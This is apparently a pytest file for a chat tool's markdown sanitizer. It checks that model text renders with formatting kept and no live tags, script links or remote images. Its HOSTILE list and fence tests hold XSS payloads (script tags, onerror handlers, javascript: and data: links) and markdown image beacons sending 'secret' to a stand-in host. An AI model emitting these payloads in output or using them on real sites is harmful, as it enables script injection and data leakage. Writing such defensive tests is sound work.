"""Markdown for the chat: the model's formatting kept, its raw HTML and script links not.

Rendered with mistune letting raw HTML through (as JupyterLab's ``marked`` does, before its
sanitizer): what pinb writes must leave no live tag, no picture and no script link even so.
The policy itself is tested in ``tests/render/test_markdown.py``.
"""

from __future__ import annotations

import base64
from html.parser import HTMLParser

import mistune
import pytest

from pinb.chat.markdown import MAX_PICTURE_BYTES, code, fence, literal, model_markdown, png_image
from pinb.chat.transcript import tool_summary

RAW_HTML = mistune.create_markdown(escape=False)

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<a href='javascript:alert(1)'>x</a>",
    "[click](javascript:alert(1))",
    "[click]( JaVaScRiPt:alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<iframe src='https://example.com'></iframe>",
    "<style>body{display:none}</style>",
    "![x](http://203.0.113.7/collect?d=secret)",
    "![x][r]\n\n[r]: http://203.0.113.7/collect?d=secret",
    "&#x21;[x](http://203.0.113.7/c) wow![y](http://203.0.113.7/d)",
]


_FORMATTING = {"p", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote", "br", "hr"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.live: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        href = dict(attrs).get("href") or ""
        if tag == "a" and href.startswith(("http://", "https://", "#")):
            return
        if tag not in _FORMATTING or any(name.startswith("on") for name, _ in attrs):
            self.live.append(f"<{tag} {attrs}>")


def _live(html: str) -> list[str]:
    """Tags in ``html`` that are more than formatting (a link only to a web page)."""
    parser = _Tags()
    parser.feed(html)
    return parser.live


@pytest.mark.parametrize("text", HOSTILE)
def test_the_models_text_leaves_nothing_live(text: str) -> None:
    assert _live(str(RAW_HTML(model_markdown(text)))) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_literal_text_leaves_nothing_live_and_no_formatting(text: str) -> None:
    html = str(RAW_HTML(literal(text + " **bold** # not a heading")))
    assert _live(html) == [] and "<strong>" not in html and "<h1>" not in html


def test_formatting_and_fenced_code_are_kept() -> None:
    text = "**bold** and `x < y`\n\n```python\nif a < b:\n    print('<b>')\n```\n\n- a list"
    html = str(RAW_HTML(model_markdown(text)))
    assert "<strong>bold</strong>" in html and "<li>a list</li>" in html
    # Inside the fence the text shows as written (a code block's HTML is text).
    assert "if a &lt; b:" in html and "print('&lt;b&gt;')" in html


@pytest.mark.parametrize(
    "text",
    [
        # marked ends a fence with more backticks or tildes after the run; CommonMark does not.
        "```\nsafe\n```~\n<script>alert(1)</script>\n```",
        # an info string with a backtick: no fence in CommonMark nor in marked
        "```js`x\n<script>alert(1)</script>\n```",
        # indented four spaces: an indented block, not a fence
        "    ```\n<script>alert(1)</script>",
        # a fence in a blockquote is not one at the top level
        "> ```\n> <img src=x onerror=alert(1)>",
        "~~~\n<b>in</b>\n~~~~ \n<script>alert(1)</script>",
    ],
)
def test_a_fence_either_renderer_might_end_is_taken_as_ended(text: str) -> None:
    assert _live(str(RAW_HTML(model_markdown(text)))) == []


def test_a_code_span_and_a_fence_hold_any_text() -> None:
    assert code("a <b>\nc") == "`a <b> c`"
    assert code("a `b`") == "a \\`b\\`"  # a backtick: shown as escaped text, not as code
    block = fence("```\n<b>\n```")
    assert block.startswith("````") and block.endswith("````")
    assert "<b>" not in str(RAW_HTML(block)).replace("&lt;b&gt;", "")


def test_pictures_are_png_data_uris_and_nothing_else() -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 16
    image = png_image(png, "the [tree]")
    assert image == f"![the  tree ](data:image/png;base64,{base64.b64encode(png).decode()})"
    assert '<img src="data:image/png' in str(RAW_HTML(image))
    with pytest.raises(ValueError, match="not a PNG"):
        png_image(b"<svg onload=alert(1)>", "x")
    too_big = png_image(png + b"\0" * MAX_PICTURE_BYTES, "x")
    assert "too large to send in the chat" in too_big and "data:" not in too_big


def test_tool_summaries_are_one_line() -> None:
    assert tool_summary("bash", {"command": "ls\n  -la"}) == "ls -la"
    assert tool_summary("read", {"path": "app.py", "offset": 3}) == "app.py"
    assert tool_summary("custom", {"a": [1, 2], "b": "x" * 300}).startswith('{"a":[1,2],"b":"xxx')
    assert len(tool_summary("custom", {"b": "x" * 300})) <= 120
    assert tool_summary("bash", "not a dict") == ""
